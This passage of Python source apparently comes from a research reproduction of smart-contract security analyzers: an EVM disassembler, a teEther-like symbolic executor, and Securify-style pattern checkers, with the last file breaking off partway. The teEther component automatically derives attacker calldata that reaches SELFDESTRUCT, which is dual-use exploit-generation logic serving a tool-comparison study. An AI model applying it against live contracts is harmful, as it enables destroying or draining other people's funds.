linear: every byte offset that is not inside a ``PUSH`` immediate becomes an
instruction.  Data trailing the code section (e.g. constructor arguments or
metadata) disassembles to ``UNKNOWN``/``INVALID`` instructions, which the
decompiler simply never reaches.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Iterator, List, Optional

from repro.evm.opcodes import Opcode, opcode_by_value


@dataclass(frozen=True)
class Instruction:
    """One decoded instruction: its code offset, opcode, and push operand."""

    offset: int
    opcode: Opcode
    operand: Optional[int] = None

    @property
    def name(self) -> str:
        return self.opcode.name

    @property
    def size(self) -> int:
        return 1 + self.opcode.immediate_size

    @property
    def next_offset(self) -> int:
        return self.offset + self.size

    def __str__(self) -> str:
        if self.operand is not None:
            return "0x%04x %s 0x%x" % (self.offset, self.name, self.operand)
        return "0x%04x %s" % (self.offset, self.name)


def disassemble(code: bytes) -> List[Instruction]:
    """Disassemble ``code`` into instructions by linear sweep."""
    instructions: List[Instruction] = []
    offset = 0
    length = len(code)
    while offset < length:
        opcode = opcode_by_value(code[offset])
        operand: Optional[int] = None
        if opcode.immediate_size:
            raw = code[offset + 1 : offset + 1 + opcode.immediate_size]
            # A PUSH whose immediate is truncated by end-of-code reads zeros,
            # matching EVM semantics.
            operand = int.from_bytes(
                raw.ljust(opcode.immediate_size, b"\x00"), "big"
            )
        instructions.append(Instruction(offset=offset, opcode=opcode, operand=operand))
        offset += 1 + opcode.immediate_size
    return instructions


def instruction_map(code: bytes) -> Dict[int, Instruction]:
    """Map each code offset to its instruction."""
    return {ins.offset: ins for ins in disassemble(code)}


def jumpdest_offsets(code: bytes) -> List[int]:
    """Offsets of all valid ``JUMPDEST`` instructions (jump targets)."""
    return [ins.offset for ins in disassemble(code) if ins.name == "JUMPDEST"]


def format_disassembly(code: bytes) -> str:
    """Human-readable multi-line disassembly listing."""
    return "\n".join(str(ins) for ins in disassemble(code))


def iter_code(code: bytes) -> Iterator[Instruction]:
    """Iterate instructions lazily (same sweep as :func:`disassemble`)."""
    offset = 0
    length = len(code)
    while offset < length:
        opcode = opcode_by_value(code[offset])
        operand: Optional[int] = None
        if opcode.immediate_size:
            raw = code[offset + 1 : offset + 1 + opcode.immediate_size]
            operand = int.from_bytes(raw.ljust(opcode.immediate_size, b"\x00"), "big")
        yield Instruction(offset=offset, opcode=opcode, operand=operand)
        offset += 1 + opcode.immediate_size
