"""A teEther-like symbolic-execution exploit finder (Krupp & Rossow, USENIX
Security'18), the paper's completeness comparison point (§6.2).

Design mirrors the original's character:

* **symbolic EVM** — executes bytecode with symbolic calldata words and a
  symbolic caller; storage starts from a *concrete* snapshot (zeros for a
  fresh deployment), matching the paper's "we evaluate it purely as a static
  tool" reading where uninitialized owner variables make exploits valid,
* **path enumeration** — DFS with per-path step limits and a global budget;
  exhausting the budget before the search completes is a *timeout*, the
  failure mode the paper observes on 5/20 contracts,
* **exploit generation** — on reaching ``SELFDESTRUCT``, the collected path
  constraints are handed to a small constraint solver; only *solved* paths
  are reported, which is why teEther's reports are high-confidence but its
  completeness is low: one transaction, no multi-transaction composite
  chains, and an incomplete solver,
* findings: ``accessible-selfdestruct`` (a solvable path reaches
  SELFDESTRUCT) and ``tainted-selfdestruct`` (the beneficiary expression
  contains attacker symbols).

The solver intentionally handles only the algebra that single-transaction
selfdestruct exploits need (equalities, ISZERO/AND towers, SHR-based
dispatcher selector extraction, simple orderings).  Anything richer makes
the path unsolved — incompleteness, not unsoundness.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Set, Tuple

from repro.evm.disassembler import disassemble
from repro.evm.hashing import UINT_MAX, keccak_int

# --------------------------------------------------------------------------
# Symbolic values
# --------------------------------------------------------------------------


class SymValue:
    """Base class; concrete values use :class:`Const`."""

    __slots__ = ()

    @property
    def is_const(self) -> bool:
        return isinstance(self, Const)


class Const(SymValue):
    """A concrete 256-bit value."""

    __slots__ = ("value",)

    def __init__(self, value: int):
        self.value = value & UINT_MAX

    def __repr__(self) -> str:
        return "0x%x" % self.value

    def __eq__(self, other) -> bool:
        return isinstance(other, Const) and other.value == self.value

    def __hash__(self) -> int:
        return hash(("const", self.value))


class Symbol(SymValue):
    """An attacker-chosen input: a calldata word or the caller address."""

    __slots__ = ("name",)

    def __init__(self, name: str):
        self.name = name

    def __repr__(self) -> str:
        return self.name

    def __eq__(self, other) -> bool:
        return isinstance(other, Symbol) and other.name == self.name

    def __hash__(self) -> int:
        return hash(("sym", self.name))


class Op(SymValue):
    """An uninterpreted operation over symbolic operands."""

    __slots__ = ("name", "args")

    def __init__(self, name: str, *args: SymValue):
        self.name = name
        self.args = args

    def __repr__(self) -> str:
        return "%s(%s)" % (self.name, ", ".join(map(repr, self.args)))

    def __eq__(self, other) -> bool:
        return (
            isinstance(other, Op)
            and other.name == self.name
            and other.args == self.args
        )

    def __hash__(self) -> int:
        return hash(("op", self.name, self.args))


def symbols_in(value: SymValue) -> Set[str]:
    """Names of all attacker symbols appearing in ``value``."""
    if isinstance(value, Symbol):
        return {value.name}
    if isinstance(value, Op):
        out: Set[str] = set()
        for arg in value.args:
            out |= symbols_in(arg)
        return out
    return set()


_BINOPS = {
    "ADD": lambda a, b: (a + b) & UINT_MAX,
    "MUL": lambda a, b: (a * b) & UINT_MAX,
    "SUB": lambda a, b: (a - b) & UINT_MAX,
    "DIV": lambda a, b: 0 if b == 0 else a // b,
    "MOD": lambda a, b: 0 if b == 0 else a % b,
    "EXP": lambda a, b: pow(a, b, 1 << 256),
    "LT": lambda a, b: 1 if a < b else 0,
    "GT": lambda a, b: 1 if a > b else 0,
    "EQ": lambda a, b: 1 if a == b else 0,
    "AND": lambda a, b: a & b,
    "OR": lambda a, b: a | b,
    "XOR": lambda a, b: a ^ b,
    "SHL": lambda a, b: (b << a) & UINT_MAX if a < 256 else 0,
    "SHR": lambda a, b: b >> a if a < 256 else 0,
    "BYTE": lambda a, b: 0 if a >= 32 else (b >> (8 * (31 - a))) & 0xFF,
}


def make_op(name: str, *args: SymValue) -> SymValue:
    """Build an op node, constant-folding when every operand is concrete."""
    if name in _BINOPS and len(args) == 2 and all(a.is_const for a in args):
        return Const(_BINOPS[name](args[0].value, args[1].value))
    if name == "ISZERO" and args[0].is_const:
        return Const(1 if args[0].value == 0 else 0)
    if name == "NOT" and args[0].is_const:
        return Const(UINT_MAX ^ args[0].value)
    return Op(name, *args)


# --------------------------------------------------------------------------
# Constraint solving
# --------------------------------------------------------------------------


Assignment = Dict[str, int]


def _evaluate(value: SymValue, assignment: Assignment) -> Optional[int]:
    """Concrete value under ``assignment``; None if symbols remain."""
    if isinstance(value, Const):
        return value.value
    if isinstance(value, Symbol):
        return assignment.get(value.name)
    if isinstance(value, Op):
        if value.name in _BINOPS and len(value.args) == 2:
            left = _evaluate(value.args[0], assignment)
            right = _evaluate(value.args[1], assignment)
            if left is None or right is None:
                return None
            return _BINOPS[value.name](left, right)
        if value.name == "ISZERO":
            inner = _evaluate(value.args[0], assignment)
            return None if inner is None else (1 if inner == 0 else 0)
        if value.name == "NOT":
            inner = _evaluate(value.args[0], assignment)
            return None if inner is None else (UINT_MAX ^ inner)
        if value.name == "SHA3":
            parts = []
            for arg in value.args:
                concrete = _evaluate(arg, assignment)
                if concrete is None:
                    return None
                parts.append(concrete.to_bytes(32, "big"))
            return keccak_int(b"".join(parts))
    return None


class Solver:
    """Greedy constraint solver for (expression, wanted-truthy) pairs."""

    def __init__(self, attacker: int = 0xA77AC7E2):
        self.attacker = attacker

    def solve(self, constraints: Sequence[Tuple[SymValue, bool]]) -> Optional[Assignment]:
        assignment: Assignment = {"CALLER": self.attacker}
        pending = list(constraints)
        for _ in range(len(pending) * 4 + 8):
            progress = False
            for expr, wanted in pending:
                if self._propagate(expr, wanted, assignment):
                    progress = True
            if not progress:
                break
        # Default remaining symbols to the attacker address (a useful
        # heuristic: address-typed arguments usually want it).
        names: Set[str] = set()
        for expr, _ in pending:
            names |= symbols_in(expr)
        for name in names:
            assignment.setdefault(name, self.attacker)
        # Final check.
        for expr, wanted in pending:
            concrete = _evaluate(expr, assignment)
            if concrete is None:
                return None
            if bool(concrete) != wanted:
                return None
        return assignment

    # ------------------------------------------------------------ internal

    def _propagate(self, expr: SymValue, wanted: bool, assignment: Assignment) -> bool:
        """Try to bind one symbol to satisfy ``expr == wanted``; returns
        True when a new binding was made."""
        concrete = _evaluate(expr, assignment)
        if concrete is not None:
            return False
        if isinstance(expr, Symbol):
            if expr.name not in assignment:
                assignment[expr.name] = 1 if wanted else 0
                return True
            return False
        if not isinstance(expr, Op):
            return False
        if expr.name == "ISZERO":
            return self._propagate(expr.args[0], not wanted, assignment)
        if expr.name == "AND" and wanted:
            changed = False
            for arg in expr.args:
                changed |= self._propagate(arg, True, assignment)
            return changed
        if expr.name == "OR" and not wanted:
            changed = False
            for arg in expr.args:
                changed |= self._propagate(arg, False, assignment)
            return changed
        if expr.name == "OR" and wanted:
            return self._propagate(expr.args[0], True, assignment)
        if expr.name == "EQ":
            return self._solve_equality(expr.args[0], expr.args[1], wanted, assignment)
        if expr.name in ("LT", "GT"):
            return self._solve_ordering(expr, wanted, assignment)
        return False

    def _solve_equality(
        self, left: SymValue, right: SymValue, wanted: bool, assignment: Assignment
    ) -> bool:
        left_value = _evaluate(left, assignment)
        right_value = _evaluate(right, assignment)
        if left_value is not None and right_value is None:
            return self._bind(right, left_value, wanted, assignment)
        if right_value is not None and left_value is None:
            return self._bind(left, right_value, wanted, assignment)
        return False

    def _bind(
        self, expr: SymValue, target: int, wanted: bool, assignment: Assignment
    ) -> bool:
        """Bind symbols inside ``expr`` so it evaluates to ``target`` (or
        anything else when ``wanted`` is False)."""
        if isinstance(expr, Symbol):
            if expr.name in assignment:
                return False
            assignment[expr.name] = target if wanted else (target + 1) & UINT_MAX
            return True
        if isinstance(expr, Op) and wanted:
            # Inversion rules for the dispatcher pattern SHR(224, cd0) == sel
            if expr.name == "SHR" and expr.args[0].is_const:
                shift = expr.args[0].value
                return self._bind(expr.args[1], (target << shift) & UINT_MAX, True, assignment)
            if expr.name == "SHL" and expr.args[0].is_const:
                shift = expr.args[0].value
                return self._bind(expr.args[1], target >> shift, True, assignment)
            if expr.name == "AND" and expr.args[0].is_const:
                return self._bind(expr.args[1], target, True, assignment)
            if expr.name == "AND" and expr.args[1].is_const:
                return self._bind(expr.args[0], target, True, assignment)
            if expr.name == "ADD" and expr.args[0].is_const:
                return self._bind(
                    expr.args[1], (target - expr.args[0].value) & UINT_MAX, True, assignment
                )
            if expr.name == "ADD" and expr.args[1].is_const:
                return self._bind(
                    expr.args[0], (target - expr.args[1].value) & UINT_MAX, True, assignment
                )
        return False

    def _solve_ordering(self, expr: Op, wanted: bool, assignment: Assignment) -> bool:
        left, right = expr.args
        left_value = _evaluate(left, assignment)
        right_value = _evaluate(right, assignment)
        # One side concrete, other a bare symbol: pick a satisfying value.
        name = expr.name
        if left_value is None and isinstance(left, Symbol) and right_value is not None:
            satisfies_lt = wanted if name == "LT" else not wanted
            if satisfies_lt:  # need left < right (or !left>right)
                if right_value == 0:
                    return False
                assignment[left.name] = right_value - 1
            else:
                assignment[left.name] = right_value
            return True
        if right_value is None and isinstance(right, Symbol) and left_value is not None:
            satisfies_gt = wanted if name == "LT" else not wanted
            if satisfies_gt:  # need left < right: right > left
                assignment[right.name] = min(left_value + 1, UINT_MAX)
            else:
                assignment[right.name] = left_value
            return True
        return False


# --------------------------------------------------------------------------
# Symbolic machine
# --------------------------------------------------------------------------


@dataclass
class _Path:
    pc: int
    stack: List[SymValue]
    memory: Dict[int, SymValue]
    memory_hazy: bool
    storage: Dict[int, SymValue]
    constraints: List[Tuple[SymValue, bool]]
    steps: int = 0


@dataclass
class TeEtherFinding:
    kind: str  # "accessible-selfdestruct" | "tainted-selfdestruct"
    pc: int
    exploit_calldata_words: Dict[int, int] = field(default_factory=dict)


@dataclass
class TeEtherResult:
    findings: List[TeEtherFinding] = field(default_factory=list)
    timed_out: bool = False
    error: str = ""
    paths_explored: int = 0
    elapsed_seconds: float = 0.0

    @property
    def flagged(self) -> bool:
        return bool(self.findings)

    def kinds(self) -> Set[str]:
        return {finding.kind for finding in self.findings}


class TeEtherAnalysis:
    """Symbolically executes runtime bytecode hunting selfdestruct paths."""

    def __init__(
        self,
        max_paths: int = 256,
        max_steps_per_path: int = 3_000,
        max_total_steps: int = 120_000,
        timeout_seconds: float = 120.0,
        attacker: int = 0xA77AC7E2,
    ):
        self.max_paths = max_paths
        self.max_steps_per_path = max_steps_per_path
        self.max_total_steps = max_total_steps
        self.timeout_seconds = timeout_seconds
        self.attacker = attacker

    def analyze(
        self, runtime_bytecode: bytes, initial_storage: Optional[Dict[int, int]] = None
    ) -> TeEtherResult:
        started = time.monotonic()
        result = TeEtherResult()
        instructions = {ins.offset: ins for ins in disassemble(runtime_bytecode)}
        jumpdests = {
            offset for offset, ins in instructions.items() if ins.name == "JUMPDEST"
        }
        storage_init: Dict[int, SymValue] = {
            slot: Const(value) for slot, value in (initial_storage or {}).items()
        }
        solver = Solver(self.attacker)

        worklist: List[_Path] = [
            _Path(
                pc=0,
                stack=[],
                memory={},
                memory_hazy=False,
                storage=dict(storage_init),
                constraints=[],
            )
        ]
        total_steps = 0
        reported: Set[Tuple[str, int]] = set()

        while worklist:
            if (
                len(result.findings) >= 16
                or result.paths_explored >= self.max_paths
                or total_steps >= self.max_total_steps
                or time.monotonic() - started > self.timeout_seconds
            ):
                result.timed_out = bool(worklist)
                break
            path = worklist.pop()
            result.paths_explored += 1
            self._run_path(
                path,
                instructions,
                jumpdests,
                worklist,
                result,
                solver,
                reported,
                storage_init,
            )
            total_steps += path.steps

        result.elapsed_seconds = time.monotonic() - started
        return result

    # ------------------------------------------------------------ stepping

    def _run_path(
        self,
        path: _Path,
        instructions,
        jumpdests: Set[int],
        worklist: List[_Path],
        result: TeEtherResult,
        solver: Solver,
        reported: Set[Tuple[str, int]],
        storage_init: Dict[int, SymValue],
    ) -> None:
        stack = path.stack

        def push(value: SymValue) -> None:
            stack.append(value)

        def pop() -> SymValue:
            return stack.pop() if stack else Const(0)

        while path.steps < self.max_steps_per_path:
            path.steps += 1
            ins = instructions.get(path.pc)
            if ins is None:
                return  # ran off the code: implicit stop
            name = ins.name
            next_pc = ins.next_offset

            if ins.opcode.is_push:
                push(Const(ins.operand or 0))
            elif ins.opcode.is_dup:
                n = ins.opcode.value - 0x80 + 1
                if len(stack) < n:
                    return
                push(stack[-n])
            elif ins.opcode.is_swap:
                n = ins.opcode.value - 0x90 + 1
                if len(stack) < n + 1:
                    return
                stack[-1], stack[-n - 1] = stack[-n - 1], stack[-1]
            elif name == "POP":
                pop()
            elif name == "JUMPDEST":
                pass
            elif name in _BINOPS:
                a, b = pop(), pop()
                push(make_op(name, a, b))
            elif name in ("SDIV", "SMOD", "SLT", "SGT", "SIGNEXTEND", "SAR"):
                a, b = pop(), pop()
                push(make_op(name, a, b))
            elif name in ("ADDMOD", "MULMOD"):
                pop(), pop(), pop()
                push(Symbol("mod_%d" % path.pc))
            elif name == "ISZERO":
                push(make_op("ISZERO", pop()))
            elif name == "NOT":
                push(make_op("NOT", pop()))
            elif name == "CALLER":
                push(Symbol("CALLER"))
            elif name == "ORIGIN":
                push(Symbol("CALLER"))
            elif name == "CALLVALUE":
                push(Const(0))  # teEther sends zero-value probe transactions
            elif name == "CALLDATALOAD":
                offset = pop()
                if offset.is_const:
                    push(Symbol("cd_%d" % offset.value))
                else:
                    push(Symbol("cd_dyn_%d" % path.pc))
            elif name == "CALLDATASIZE":
                push(Const(4 + 32 * 8))  # enough words for any dispatcher
            elif name == "ADDRESS":
                push(Const(0xC0117AC7))
            elif name in ("BALANCE", "SELFBALANCE"):
                if name == "BALANCE":
                    pop()
                push(Const(10**18))
            elif name in (
                "GASPRICE", "COINBASE", "TIMESTAMP", "NUMBER", "DIFFICULTY",
                "GASLIMIT", "CHAINID", "PC", "MSIZE", "GAS", "RETURNDATASIZE",
                "CODESIZE",
            ):
                push(Const(1))
            elif name in ("EXTCODESIZE", "EXTCODEHASH", "BLOCKHASH"):
                pop()
                push(Const(0))
            elif name == "MLOAD":
                offset = pop()
                if offset.is_const and not path.memory_hazy:
                    push(path.memory.get(offset.value, Const(0)))
                elif offset.is_const:
                    push(path.memory.get(offset.value, Symbol("mem_%d" % path.pc)))
                else:
                    push(Symbol("mem_%d" % path.pc))
            elif name == "MSTORE":
                offset, value = pop(), pop()
                if offset.is_const:
                    path.memory[offset.value] = value
                else:
                    path.memory_hazy = True
            elif name == "MSTORE8":
                pop(), pop()
                path.memory_hazy = True
            elif name in ("CALLDATACOPY", "CODECOPY", "RETURNDATACOPY", "EXTCODECOPY"):
                count = 4 if name == "EXTCODECOPY" else 3
                for _ in range(count):
                    pop()
                path.memory_hazy = True
            elif name == "SHA3":
                offset, size = pop(), pop()
                if offset.is_const and size.is_const and size.value % 32 == 0:
                    words = [
                        path.memory.get(offset.value + 32 * i, Const(0))
                        for i in range(size.value // 32)
                    ]
                    push(make_op("SHA3", *words))
                else:
                    push(Symbol("sha_%d" % path.pc))
            elif name == "SLOAD":
                key = pop()
                push(self._storage_read(path, key, storage_init))
            elif name == "SSTORE":
                key, value = pop(), pop()
                path.storage[self._storage_key(key)] = value
            elif name in ("CALL", "CALLCODE"):
                for _ in range(7):
                    pop()
                push(Const(1))
                path.memory_hazy = True
            elif name in ("DELEGATECALL", "STATICCALL"):
                for _ in range(6):
                    pop()
                push(Const(1))
                path.memory_hazy = True
            elif name in ("CREATE", "CREATE2"):
                for _ in range(3 if name == "CREATE" else 4):
                    pop()
                push(Const(0))
            elif name.startswith("LOG"):
                for _ in range(2 + int(name[3:])):
                    pop()
            elif name == "JUMP":
                target = pop()
                if not target.is_const or target.value not in jumpdests:
                    return
                path.pc = target.value
                continue
            elif name == "JUMPI":
                target, condition = pop(), pop()
                if not target.is_const or target.value not in jumpdests:
                    return
                if condition.is_const:
                    path.pc = target.value if condition.value else next_pc
                    continue
                # Fork: taken branch goes on the worklist, fallthrough here.
                taken = _Path(
                    pc=target.value,
                    stack=list(stack),
                    memory=dict(path.memory),
                    memory_hazy=path.memory_hazy,
                    storage=dict(path.storage),
                    constraints=path.constraints + [(condition, True)],
                    steps=path.steps,
                )
                worklist.append(taken)
                path.constraints.append((condition, False))
                path.pc = next_pc
                continue
            elif name in ("STOP", "RETURN", "REVERT", "INVALID") or name.startswith("UNKNOWN"):
                return
            elif name == "SELFDESTRUCT":
                beneficiary = pop()
                assignment = Solver(self.attacker).solve(path.constraints)
                if assignment is not None:
                    key = ("accessible-selfdestruct", ins.offset)
                    if key not in reported:
                        reported.add(key)
                        result.findings.append(
                            TeEtherFinding(
                                kind="accessible-selfdestruct",
                                pc=ins.offset,
                                exploit_calldata_words=_calldata_words(assignment),
                            )
                        )
                    if symbols_in(beneficiary) & (
                        {"CALLER"} | {s for s in symbols_in(beneficiary) if s.startswith("cd_")}
                    ):
                        tainted_key = ("tainted-selfdestruct", ins.offset)
                        if tainted_key not in reported:
                            reported.add(tainted_key)
                            result.findings.append(
                                TeEtherFinding(
                                    kind="tainted-selfdestruct",
                                    pc=ins.offset,
                                    exploit_calldata_words=_calldata_words(assignment),
                                )
                            )
                return
            else:
                return  # unmodeled opcode: abandon path (incompleteness)
            path.pc = next_pc

    # ------------------------------------------------------------- storage

    @staticmethod
    def _storage_key(key: SymValue):
        return key.value if key.is_const else key

    def _storage_read(
        self, path: _Path, key: SymValue, storage_init: Dict[int, SymValue]
    ) -> SymValue:
        lookup = self._storage_key(key)
        if isinstance(lookup, int):
            if lookup in path.storage:
                return path.storage[lookup]
            return storage_init.get(lookup, Const(0))
        # Structural match for symbolic (hash-derived) keys.
        for existing, value in path.storage.items():
            if not isinstance(existing, int) and existing == lookup:
                return value
        return Const(0)  # untouched mapping element of a fresh contract


def _calldata_words(assignment: Assignment) -> Dict[int, int]:
    words: Dict[int, int] = {}
    for name, value in assignment.items():
        if name.startswith("cd_") and not name.startswith("cd_dyn"):
            words[int(name[3:])] = value
    return words
