"""A Securify2-like source-level analyzer (§6.2, Figure 7).

Securify2 abandoned bytecode for Solidity source, gaining context-sensitive
source patterns but shrinking its domain drastically: it only parses recent
compiler versions (0.5.8+, under 3% of deployed contracts in the paper) and
cannot see through inline assembly — which is where the tainted-delegatecall
pattern usually lives, giving it "very low completeness for tainted
delegatecall" and zero precision there.

This reimplementation works on the MiniSol AST and reproduces those design
consequences:

* ``analyze`` refuses contracts without source or with
  ``solidity_version < 0.5.8`` (``error="not-applicable"``),
* contracts flagged ``inline_assembly`` yield no delegatecall/staticcall
  findings (the construct is invisible at source level),
* large contracts (by AST statement count) time out deterministically,
* patterns: ``UnrestrictedSelfdestruct`` / ``UnrestrictedDelegateCall`` — a
  sensitive statement with no ``msg.sender`` comparison anywhere on its
  function's guard path (modifiers + requires); precise on simple cases but
  with *no* notion of guard tainting, so the composite escalations Ethainter
  finds are invisible,
* ``UnrestrictedWrite`` — any state write in a function without a
  ``msg.sender`` guard; extremely noisy (the paper counts 3,502 such
  violations with 0/10 sampled precision).
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import List, Optional, Set

from repro.minisol import ast_nodes as ast
from repro.minisol.parser import parse

UNRESTRICTED_SELFDESTRUCT = "UnrestrictedSelfdestruct"
UNRESTRICTED_DELEGATECALL = "UnrestrictedDelegateCall"
UNRESTRICTED_WRITE = "UnrestrictedWrite"

# Deterministic stand-in for the paper's 441-of-7276 timeout rate: contracts
# with more AST statements than this cut-off are "too big".
TIMEOUT_STATEMENT_COUNT = 60


@dataclass
class Securify2Violation:
    pattern: str
    function: str
    line: int
    detail: str = ""


@dataclass
class Securify2Result:
    violations: List[Securify2Violation] = field(default_factory=list)
    error: str = ""  # "not-applicable" | "timeout" | "parse-error" | ""
    elapsed_seconds: float = 0.0

    @property
    def applicable(self) -> bool:
        return self.error != "not-applicable"

    @property
    def timed_out(self) -> bool:
        return self.error == "timeout"

    @property
    def flagged(self) -> bool:
        return bool(self.violations)

    def patterns(self) -> Set[str]:
        return {violation.pattern for violation in self.violations}


def _statement_count(stmt: ast.Stmt) -> int:
    count = 1
    if isinstance(stmt, ast.Block):
        count += sum(_statement_count(child) for child in stmt.statements)
    elif isinstance(stmt, ast.If):
        count += _statement_count(stmt.then_branch)
        if stmt.else_branch is not None:
            count += _statement_count(stmt.else_branch)
    elif isinstance(stmt, ast.While):
        count += _statement_count(stmt.body)
    return count


def _mentions_sender_compare(expr: ast.Expr) -> bool:
    """Does the expression compare or index with ``msg.sender``?"""
    if isinstance(expr, ast.BinaryOp):
        if expr.op == "==" and (
            isinstance(expr.left, ast.MsgSender) or isinstance(expr.right, ast.MsgSender)
        ):
            return True
        return _mentions_sender_compare(expr.left) or _mentions_sender_compare(expr.right)
    if isinstance(expr, ast.UnaryOp):
        return _mentions_sender_compare(expr.operand)
    if isinstance(expr, ast.IndexAccess):
        if isinstance(expr.index, ast.MsgSender):
            return True
        return _mentions_sender_compare(expr.base) or _mentions_sender_compare(expr.index)
    return False


def _requires_in(stmt: ast.Stmt) -> List[ast.Require]:
    found: List[ast.Require] = []
    if isinstance(stmt, ast.Require):
        found.append(stmt)
    elif isinstance(stmt, ast.Block):
        for child in stmt.statements:
            found.extend(_requires_in(child))
    elif isinstance(stmt, ast.If):
        found.extend(_requires_in(stmt.then_branch))
        if stmt.else_branch is not None:
            found.extend(_requires_in(stmt.else_branch))
    elif isinstance(stmt, ast.While):
        found.extend(_requires_in(stmt.body))
    return found


class Securify2Analysis:
    """Source-level analyzer for one MiniSol contract."""

    def __init__(self, timeout_statement_count: int = TIMEOUT_STATEMENT_COUNT):
        self.timeout_statement_count = timeout_statement_count

    def analyze(
        self,
        source: str,
        contract_name: Optional[str] = None,
        solidity_version: str = "0.5.8",
        has_source: bool = True,
        inline_assembly: bool = False,
    ) -> Securify2Result:
        started = time.monotonic()
        result = Securify2Result()

        if not has_source or not _version_at_least(solidity_version, (0, 5, 8)):
            result.error = "not-applicable"
            return result
        try:
            program = parse(source)
        except Exception as error:  # noqa: BLE001 - any parse failure
            result.error = "parse-error: %s" % error
            return result
        contracts = program.contracts
        if contract_name is not None:
            contracts = [c for c in contracts if c.name == contract_name]

        for contract in contracts:
            total = sum(_statement_count(fn.body) for fn in contract.functions)
            if total > self.timeout_statement_count:
                result.error = "timeout"
                result.elapsed_seconds = time.monotonic() - started
                return result
            self._analyze_contract(contract, inline_assembly, result)
        result.elapsed_seconds = time.monotonic() - started
        return result

    # ------------------------------------------------------------ internals

    def _function_sender_guarded(self, contract: ast.Contract, fn: ast.FunctionDef) -> bool:
        """Any msg.sender comparison/lookup on the function's guard path."""
        conditions: List[ast.Expr] = []
        for invocation in fn.modifiers:
            for modifier in contract.modifiers:
                if modifier.name == invocation.name:
                    for require in _requires_in(modifier.body):
                        conditions.append(require.condition)
        for require in _requires_in(fn.body):
            conditions.append(require.condition)
        return any(_mentions_sender_compare(condition) for condition in conditions)

    def _analyze_contract(
        self, contract: ast.Contract, inline_assembly: bool, result: Securify2Result
    ) -> None:
        for fn in contract.functions:
            if not fn.is_public:
                continue
            guarded = self._function_sender_guarded(contract, fn)
            self._scan(fn, fn.body, guarded, inline_assembly, result)

    def _scan(
        self,
        fn: ast.FunctionDef,
        stmt: ast.Stmt,
        guarded: bool,
        inline_assembly: bool,
        result: Securify2Result,
    ) -> None:
        if isinstance(stmt, ast.Block):
            for child in stmt.statements:
                self._scan(fn, child, guarded, inline_assembly, result)
            return
        if isinstance(stmt, ast.If):
            self._scan(fn, stmt.then_branch, guarded, inline_assembly, result)
            if stmt.else_branch is not None:
                self._scan(fn, stmt.else_branch, guarded, inline_assembly, result)
            return
        if isinstance(stmt, ast.While):
            self._scan(fn, stmt.body, guarded, inline_assembly, result)
            return
        if isinstance(stmt, ast.ExprStmt) and isinstance(stmt.expr, ast.CallExpr):
            call = stmt.expr
            if call.name == "selfdestruct" and not guarded:
                result.violations.append(
                    Securify2Violation(
                        pattern=UNRESTRICTED_SELFDESTRUCT,
                        function=fn.name,
                        line=stmt.line,
                    )
                )
            # Inline-assembly constructs are invisible to a source tool.
            if call.name == "delegatecall" and not guarded and not inline_assembly:
                result.violations.append(
                    Securify2Violation(
                        pattern=UNRESTRICTED_DELEGATECALL,
                        function=fn.name,
                        line=stmt.line,
                    )
                )
            return
        if isinstance(stmt, ast.Assign) and not guarded:
            target = stmt.target
            is_state_write = isinstance(target, ast.IndexAccess) or (
                isinstance(target, ast.Identifier)
                and any(var.name == target.name for var in _state_vars_of(fn))
            )
            # Without the enclosing contract we approximate: any assignment
            # to an identifier that is not a declared local counts.
            if isinstance(target, ast.Identifier):
                local_names = {p.name for p in fn.params} | _local_names(fn.body)
                is_state_write = target.name not in local_names
            if is_state_write:
                result.violations.append(
                    Securify2Violation(
                        pattern=UNRESTRICTED_WRITE,
                        function=fn.name,
                        line=stmt.line,
                        detail="state write in unguarded function",
                    )
                )


def _state_vars_of(fn: ast.FunctionDef) -> List[ast.StateVarDef]:
    return []  # resolved via _local_names heuristic above


def _local_names(stmt: ast.Stmt) -> Set[str]:
    names: Set[str] = set()
    if isinstance(stmt, ast.VarDecl):
        names.add(stmt.name)
    elif isinstance(stmt, ast.Block):
        for child in stmt.statements:
            names |= _local_names(child)
    elif isinstance(stmt, ast.If):
        names |= _local_names(stmt.then_branch)
        if stmt.else_branch is not None:
            names |= _local_names(stmt.else_branch)
    elif isinstance(stmt, ast.While):
        names |= _local_names(stmt.body)
    return names


def _version_at_least(version: str, minimum: tuple) -> bool:
    try:
        parts = tuple(int(part) for part in version.split("."))
    except ValueError:
        return False
    return parts >= minimum
