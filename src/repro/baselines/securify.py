"""A Securify-like bytecode pattern analyzer (Tsankov et al., CCS'18).

Reimplements the two violation patterns the paper compares against (§6.2),
with the original tool's documented imprecision sources deliberately kept:

* **unrestricted write** — an ``SSTORE`` whose address is not a compile-time
  constant, or whose enclosing code is not dominated by *any*
  sender-equality check.  Securify does not model Solidity mappings as
  high-level data structures: the hash-derived addresses of
  ``balances[to] = v`` are "only pointer arithmetic", so every mapping write
  looks unrestricted — exactly the false-positive class the paper dissects.
* **missing input validation** — a calldata-derived value that flows into a
  state-affecting instruction (``SSTORE``, ``MSTORE``, ``SHA3``, ``CALL``
  family) without first flowing into an *equality* comparison used by a
  ``JUMPI``.  Range checks (``LT``/``GT``) are not recognized as validation
  — the paper's example ("the condition that checks for underflows is not
  understood").

No guard tainting, no storage-flavored taint, no composite reasoning: the
tool is flow-insensitive pattern matching, which is what produces its very
high flag rate (the paper measures 39.2% of contracts flagged for these two
patterns, and 0/40 end-to-end precision in the manual sample).
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import Dict, List, Set

from repro.core.facts import extract_facts
from repro.core.storage_model import memory_var
from repro.decompiler import LiftError, lift

UNRESTRICTED_WRITE = "unrestricted-write"
MISSING_INPUT_VALIDATION = "missing-input-validation"


@dataclass
class SecurifyViolation:
    pattern: str
    statement: str
    pc: int
    detail: str = ""


@dataclass
class SecurifyResult:
    violations: List[SecurifyViolation] = field(default_factory=list)
    error: str = ""
    elapsed_seconds: float = 0.0

    @property
    def flagged(self) -> bool:
        return bool(self.violations)

    def patterns(self) -> Set[str]:
        return {violation.pattern for violation in self.violations}


class SecurifyAnalysis:
    """Analyzes one contract's runtime bytecode with the Securify patterns."""

    def __init__(self, timeout_seconds: float = 120.0):
        self.timeout_seconds = timeout_seconds

    def analyze(self, runtime_bytecode: bytes) -> SecurifyResult:
        started = time.monotonic()
        result = SecurifyResult()
        try:
            program = lift(runtime_bytecode)
        except LiftError as error:
            result.error = "lift-error: %s" % error
            result.elapsed_seconds = time.monotonic() - started
            return result
